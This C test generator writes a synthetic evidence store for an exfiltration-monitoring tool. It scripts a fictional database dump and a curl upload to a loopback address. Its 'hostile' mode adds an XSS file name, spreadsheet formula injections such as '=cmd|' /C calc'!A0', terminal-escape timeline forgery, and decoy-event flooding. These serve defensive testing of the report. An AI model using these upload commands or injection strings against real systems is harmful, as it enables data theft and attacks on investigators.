// SPDX-License-Identifier: GPL-2.0-only
/*
 * Writes a small evidence store with known figures through the real writer, for the
 * report test and as the fuzz corpus seed. Session 7 (alice, from 10.9.8.7) dumps a
 * database and a file with a hostile name, stages them and uploads them in two slices;
 * session 8 (bob) reads a little. Figures the test checks: alice collected 4500000
 * bytes, sent 4000000, staged 4500000; alerts bulk_collection_bytes and exfiltration
 * (revision 2 at 4000000); two gaps touch session 7 (its own and one for all sessions).
 * With "hostile", a different store: the attacks on the investigator from issue 11 part D
 * (see hostile()). With "big", the story after the filler in 64 KiB blocks and 16 MiB
 * segments, for measuring the commands' memory on a large store.
 * usage: gen_evidence DIR [FILLER_RECORDS [hostile|big]]
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "evidence/evidence.h"

#define SEC 1000000000ULL
#define T0 (1795000000ULL * SEC)

static struct evidence *ev;

static void put(const char *type, uint64_t ts, const char *json)
{
	if (evidence_append(ev, type, ts, json, strlen(json), NULL)) {
		fprintf(stderr, "gen_evidence: append %s failed\n", type);
		exit(1);
	}
}

/* Dave's three sessions share his login uid. */
static unsigned uid_of(unsigned sid)
{
	return sid >= 21 && sid <= 23 ? 1121 : 1094 + sid;
}

static void activity(uint64_t at, unsigned sid, unsigned pid, const char *comm,
		     const char *kind, const char *object, unsigned long long bytes)
{
	char json[1024];

	snprintf(json, sizeof(json),
		 "{\"session_id\":%u,\"loginuid\":%u,\"uid\":%u,\"pid\":%u,\"comm\":\"%s\","
		 "\"exe\":\"/usr/bin/%s\",\"kind\":\"%s\",\"object\":\"%s\",\"bytes\":%llu,"
		 "\"ops\":10,\"first_ns\":%llu,\"last_ns\":%llu}",
		 sid, uid_of(sid), uid_of(sid), pid, comm, comm, kind, object, bytes,
		 (unsigned long long)(T0 + at * SEC - SEC), (unsigned long long)(T0 + at * SEC));
	put("activity", T0 + at * SEC, json);
}

/* @timestamp is the record's time (T0 is 2026-11-18T11:06:40Z), as the daemon writes it. */
static void alert(uint64_t at, unsigned id, unsigned rev, const char *rule,
		  unsigned long long src, unsigned long long out)
{
	char json[2048];

	snprintf(json, sizeof(json),
		 "{\"@timestamp\":\"2026-11-18T11:06:%02llu.000Z\",\"event\":{\"kind\":\"alert\"},"
		 "\"rule\":{\"name\":\"%s\"},\"user\":{\"name\":\"alice\",\"id\":\"1101\"},"
		 "\"host\":{\"name\":\"ws1\"},\"exfilmon\":{\"alert_id\":%u,\"revision\":%u,"
		 "\"session_id\":7,\"loginuid\":1101,\"tty\":\"pts/1\",\"remote_host\":\"10.9.8.7\","
		 "\"source_bytes\":%llu,\"egress_bytes\":%llu,\"threshold\":1000000,"
		 "\"sources\":[{\"name\":\"127.0.0.2:5432\",\"bytes\":3000000}],"
		 "\"destinations\":[{\"name\":\"127.0.0.77:8080\",\"bytes\":%llu}],"
		 "\"processes\":[{\"name\":\"curl\",\"pid\":502,\"bytes\":%llu}],"
		 "\"evidence_first_seq\":3,\"evidence_last_seq\":20,\"config_sha256\":\"ab\"}}",
		 (unsigned long long)(40 + at), rule, id, rev, src, out, out, out);
	put("alert", T0 + at * SEC, json);
}

static void story(void)
{
	put("agent", T0, "{\"event\":\"start\",\"host\":\"ws1\",\"host_id\":"
			 "\"0123456789abcdef0123456789abcdef\",\"agent_id\":"
			 "\"6b1e0f52-8e7c-4ad3-9f0a-31c455d27e10\",\"version\":\"0.1.0\","
			 "\"hooks\":\"fexit\",\"config_sha256\":\"ab\"}");
	put("config", T0, "{\"sha256\":\"ab\",\"path\":\"/etc/exfilmon/exfilmon.yaml\"}");
	put("session", T0 + SEC, "{\"session_id\":7,\"loginuid\":1101,\"uid\":1101,"
				 "\"user\":\"alice\",\"tty\":\"pts/1\",\"remote_host\":\"10.9.8.7\","
				 "\"display\":null,\"login_ns\":1795000001000000000}");
	put("session", T0 + 2 * SEC, "{\"session_id\":8,\"loginuid\":1102,\"uid\":1102,"
				     "\"user\":\"bob\",\"tty\":\"pts/2\",\"remote_host\":\"\","
				     "\"login_ns\":1795000002000000000}");
	put("process", T0 + 3 * SEC, "{\"event\":\"exec\",\"pid\":500,\"ppid\":400,"
				     "\"session_id\":7,\"loginuid\":1101,\"uid\":1101,\"comm\":"
				     "\"bash\",\"exe\":\"/usr/bin/bash\",\"args\":\"-bash\"}");
	/* psql's \copy as the daemon stores it: json_sanitize_utf8 writes a backslash as \x5c. */
	put("process", T0 + 4 * SEC, "{\"event\":\"exec\",\"pid\":501,\"ppid\":500,"
				     "\"session_id\":7,\"comm\":\"psql\",\"exe\":\"/usr/bin/psql\","
				     "\"args\":\"psql -h 127.0.0.2 -c \\\\x5ccopy customers to "
				     "'/tmp/<b>c</b>.csv'\"}");
	put("connect", T0 + 4 * SEC, "{\"session_id\":7,\"pid\":501,\"comm\":\"psql\","
				     "\"direction\":\"connect\",\"proto\":\"tcp\",\"local_ip\":"
				     "\"127.0.0.1\",\"local_port\":40000,\"remote_ip\":\"127.0.0.2\","
				     "\"remote_port\":5432,\"class\":\"source\"}");
	activity(5, 7, 501, "psql", "source_net", "127.0.0.2:5432", 3000000);
	activity(6, 7, 501, "psql", "source_file", "/srv/customers/<script>alert(1)</script>&x.csv",
		 1500000);
	activity(6, 8, 600, "less", "source_file", "/srv/customers/one.csv", 1000);
	activity(7, 7, 501, "psql", "staging", "/tmp/c.csv", 4500000);
	alert(7, 1, 1, "bulk_collection_bytes", 4500000, 0);
	put("gap", T0 + 8 * SEC, "{\"session_id\":7,\"what\":\"file_open\",\"count\":12,"
				 "\"first_ns\":1795000007000000000,\"last_ns\":1795000008000000000,"
				 "\"reason\":\"ring buffer full\"}");
	put("process", T0 + 9 * SEC, "{\"event\":\"exec\",\"pid\":502,\"ppid\":500,"
				     "\"session_id\":7,\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\","
				     "\"args\":\"curl -T /tmp/c.csv http://127.0.0.77:8080/up\"}");
	/* A command line that would forge a timeline line and clear the screen if printed raw. */
	put("process", T0 + 9 * SEC, "{\"event\":\"exec\",\"pid\":503,\"ppid\":500,"
				     "\"session_id\":7,\"comm\":\"sh\",\"exe\":\"/usr/bin/sh\","
				     "\"args\":\"sh -c :\\n2026-11-18 11:00:00  exit curl\\u001b[2J\"}");
	activity(10, 7, 502, "curl", "egress_net", "127.0.0.77:8080", 2000000);
	alert(10, 2, 1, "exfiltration", 4500000, 2000000);
	put("gap", T0 + 11 * SEC, "{\"session_id\":null,\"what\":\"exec\",\"count\":3,"
				  "\"first_ns\":1795000010000000000,\"last_ns\":1795000011000000000,"
				  "\"reason\":\"ring buffer full\"}");
	activity(12, 7, 502, "curl", "egress_net", "127.0.0.77:8080", 2000000);
	alert(12, 2, 2, "exfiltration", 4500000, 4000000);
	put("process", T0 + 13 * SEC, "{\"event\":\"exit\",\"pid\":502,\"session_id\":7,"
				      "\"comm\":\"curl\"}");
}

static void exec(uint64_t ts, unsigned sid, unsigned pid, unsigned ppid, const char *comm,
		 const char *args)
{
	char json[1024];

	snprintf(json, sizeof(json),
		 "{\"event\":\"exec\",\"pid\":%u,\"ppid\":%u,\"session_id\":%u,\"loginuid\":%u,"
		 "\"comm\":\"%s\",\"exe\":\"/usr/bin/x\",\"args\":\"%s\"}",
		 pid, ppid, sid, uid_of(sid), comm, args);
	put("process", ts, json);
}

static void login(uint64_t ts, unsigned sid, unsigned loginuid, const char *user)
{
	char json[512];

	snprintf(json, sizeof(json),
		 "{\"session_id\":%u,\"loginuid\":%u,\"uid\":%u,\"user\":\"%s\",\"tty\":"
		 "\"pts/%u\",\"remote_host\":\"\",\"login_ns\":%llu}",
		 sid, loginuid, loginuid, user, sid, (unsigned long long)ts);
	put("session", ts, json);
}

static void rfc3339(uint64_t ns, char *buf, size_t len)
{
	time_t secs = ns / SEC;
	struct tm tm;
	char day[32];

	gmtime_r(&secs, &tm);
	strftime(day, sizeof(day), "%Y-%m-%dT%H:%M:%S", &tm);
	snprintf(buf, len, "%s.%03lluZ", day, (unsigned long long)(ns % SEC / 1000000));
}

/* A per-user alert (session_id null) whose episode runs from start to end. */
static void user_alert(uint64_t ts, unsigned rev, uint64_t start, uint64_t end,
		       unsigned long long src)
{
	char json[2048], at[40], from[40], to[40];

	rfc3339(ts, at, sizeof(at));
	rfc3339(start, from, sizeof(from));
	rfc3339(end, to, sizeof(to));
	snprintf(json, sizeof(json),
		 "{\"@timestamp\":\"%s\",\"event\":{\"kind\":\"alert\"},\"rule\":{\"name\":"
		 "\"slow_drip\"},\"user\":{\"name\":\"dave\",\"id\":\"1121\"},\"host\":{\"name\":"
		 "\"ws1\"},\"exfilmon\":{\"alert_id\":77,\"revision\":%u,\"session_id\":null,"
		 "\"loginuid\":1121,\"tty\":\"\",\"remote_host\":\"\",\"episode_start\":\"%s\","
		 "\"episode_end\":\"%s\",\"source_bytes\":%llu,\"egress_bytes\":0,"
		 "\"threshold\":60000000,\"sources\":[{\"name\":\"127.0.0.2:5432\",\"bytes\":%llu}],"
		 "\"destinations\":[],\"processes\":[],\"config_sha256\":\"ab\"}}",
		 at, rev, from, to, src, src);
	put("alert", ts, json);
}

/*
 * Session 20 (mallory) hides a 5 GB upload by curl behind 600 one-byte decoy
 * destinations, 600 one-byte decoy source files and 1100 (then 3000 more) decoy execs,
 * all seen first,
 * and runs programs whose comm is a spreadsheet formula. Dave pulls 70 MB across
 * sessions 21 and 22, which only a per-user slow_drip alert (session_id null) covers;
 * his later session 23 and erin's session 24 (same time, other user) are not part of it.
 */
static void hostile(void)
{
	static const char *const formulas[] = {
		"=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)", "\\tTAB", "\\rCR",
	};
	const uint64_t t = T0 + 1000 * SEC;
	char name[64];

	put("agent", t, "{\"event\":\"start\",\"host\":\"ws1\",\"version\":\"0.1.0\"}");
	login(t, 20, uid_of(20), "mallory");
	exec(t + SEC, 20, 2000, 1, "bash", "-bash");
	for (unsigned i = 0; i < 1100; i++)
		exec(t + 2 * SEC, 20, 3000 + i, 2000, "true", "true");
	/* More events than the report's timeline holds (5000), all before the upload. */
	for (unsigned i = 0; i < 3000; i++)
		exec(t + 2 * SEC, 20, 10000 + i, 2000, "sleep", "sleep 0");
	for (unsigned i = 0; i < 600; i++) {
		snprintf(name, sizeof(name), "10.66.%u.%u:443", i / 250, i % 250);
		activity(1003, 20, 3000 + i, "nc", "egress_net", name, 1);
		snprintf(name, sizeof(name), "/srv/customers/decoy-%u.csv", i);
		activity(1003, 20, 3000 + i, "cat", "source_file", name, 1);
	}
	exec(t + 4 * SEC, 20, 2001, 2000, "psql", "psql -c copy");
	exec(t + 4 * SEC, 20, 2002, 2000, "curl", "curl -T /tmp/all.csv http://127.0.0.77:8080/");
	for (unsigned i = 0; i < 5; i++) {
		activity(1005 + i, 20, 2001, "psql", "source_net", "127.0.0.2:5432", 1000000000);
		activity(1005 + i, 20, 2002, "curl", "egress_net", "127.0.0.77:8080", 1000000000);
	}
	for (unsigned i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++) {
		exec(t + 11 * SEC, 20, 2100 + i, 2000, formulas[i], "x");
		activity(1011, 20, 2100 + i, formulas[i], "source_file", "=HYPERLINK(\\\"http://x\\\")", 1);
	}

	login(t + 100 * SEC, 21, 1121, "dave");
	login(t + 105 * SEC, 24, uid_of(24), "erin");
	activity(1110, 21, 4100, "psql", "source_net", "127.0.0.2:5432", 40000000);
	activity(1115, 24, 4200, "psql", "source_net", "127.0.0.2:5432", 1000);
	for (unsigned i = 0; i < 60; i++)
		activity(1150, 24, 4200, "less", "source_file", "/srv/customers/erin.csv", 1);
	login(t + 200 * SEC, 22, 1121, "dave");
	activity(1210, 22, 4300, "psql", "source_net", "127.0.0.2:5432", 20000000);
	for (unsigned i = 0; i < 60; i++)
		activity(1212, 24, 4200, "less", "source_file", "/srv/customers/erin.csv", 1);
	user_alert(t + 215 * SEC, 1, t + 109 * SEC, t + 210 * SEC, 60000000);
	activity(1220, 22, 4300, "psql", "source_net", "127.0.0.2:5432", 10000000);
	for (unsigned i = 0; i < 60; i++)
		activity(1222, 24, 4200, "less", "source_file", "/srv/customers/erin.csv", 1);
	user_alert(t + 221 * SEC, 2, t + 109 * SEC, t + 220 * SEC, 70000000);
	for (unsigned i = 0; i < 60; i++)
		activity(1230, 24, 4200, "less", "source_file", "/srv/customers/erin.csv", 1);
	login(t + 500 * SEC, 23, 1121, "dave");
	activity(1510, 23, 4400, "psql", "source_net", "127.0.0.2:5432", 1000);
}

int main(int argc, char **argv)
{
	struct evidence_opts o = { .block_bytes = 2048, .segment_bytes = 4096 };
	long filler = argc > 2 ? strtol(argv[2], NULL, 10) : 0;

	if (argc < 2) {
		fprintf(stderr, "usage: gen_evidence DIR [FILLER_RECORDS]\n");
		return 2;
	}
	o.dir = argv[1];
	if (argc > 3 && !strcmp(argv[3], "big")) {
		o.block_bytes = 64 << 10;
		o.segment_bytes = 16 << 20;
	}
	ev = evidence_open(&o);
	if (!ev) {
		perror(argv[1]);
		return 1;
	}
	/* Bob's filler comes first, so alice's blocks sit after many she is not in. */
	for (long i = 0; i < filler; i++)
		activity(2, 8, 600, "less", "source_file", "/srv/customers/filler.csv", 1);
	if (argc > 3 && !strcmp(argv[3], "hostile"))
		hostile();
	else
		story();
	evidence_close(ev);
	return 0;
}
